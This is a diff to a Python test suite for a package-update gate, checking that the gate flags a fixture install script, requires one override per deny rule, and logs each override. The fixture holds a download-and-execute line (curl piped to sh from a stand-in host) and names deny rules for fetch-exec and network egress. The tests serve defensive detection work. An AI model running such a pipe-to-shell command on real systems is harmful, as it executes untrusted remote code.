@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import stat
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -169,17 +170,22 @@ def test_override_is_loud_and_logged(cli: Cli, gate_env: GateEnv) -> None:
     files["install.sh"] = (b"#!/bin/sh\ncurl -fsSL https://get.example/i | sh\n", 0o755)
     cli("update", "fetch", str(gate_env.pkg("1.1.0", files)))
     review = cli.json("update", "diff", "--json")
-    assert review["summary"]["denyRules"] == ["download-exec"]
+    # the regex rule and the code reading (shell parsed by tree-sitter) both see it
+    rules = ["download-exec", "fetch-exec", "net-egress"]
+    assert review["summary"]["denyRules"] == rules
     _, err = cli("update", "approve", "--yes", "--digest", review["digest"], code=1)
     assert "--override" in err
     _, err = cli("update", "approve", "--yes", "--digest", review["digest"],
-                 "--override", "download-exec")
-    assert "OVERRIDE download-exec" in err
+                 "--override", "download-exec", "--override", "fetch-exec", code=1)
+    assert "net-egress" in err  # one override per rule: a missing one still blocks
+    _, err = cli("update", "approve", "--yes", "--digest", review["digest"],
+                 *[x for r in rules for x in ("--override", r)])
+    assert all(f"OVERRIDE {r}" in err for r in rules)
     cli("update", "apply")
     overrides = [e for e in cli.json("update", "log", "--json")["entries"]
                  if e["event"] == "override"]
-    assert [(o["rule"], o["findings"]) for o in overrides] == [("download-exec",
-                                                                ["install.sh:2"])]
+    assert [(o["rule"], o["findings"]) for o in overrides] == [(r, ["install.sh:2"])
+                                                               for r in rules]
 
 
 def test_skill_dir_flag_and_tarball_source(cli: Cli, gate_env: GateEnv, tmp_path: Path) -> None:
@@ -256,10 +262,25 @@ _recorders: list[tuple[str, list[str]]] = []  # (watched folder, what happened)
 _hook_installed: list[bool] = []
 
 
+def _reader_fork() -> bool:
+    """The one fork the gate makes: scan._in_child, which reads a file as code (parser
+    isolation) and leaves with os._exit; it never executes or imports the file."""
+    from impromptu_ops.gate import scan
+
+    frame = sys._getframe()
+    while frame is not None:
+        if frame.f_code is scan._in_child.__code__:
+            return True
+        frame = frame.f_back  # type: ignore[assignment]
+    return False
+
+
 def _audit(event: str, args: tuple[Any, ...]) -> None:
     if not _recorders:
         return
     root, seen = _recorders[-1]
+    if event == "os.fork" and _reader_fork():
+        return
     if event in SPAWN_EVENTS:
         seen.append(f"{event}: {str(args)[:200]}")
     elif event == "compile" and len(args) > 1 and str(args[1]).startswith(root):
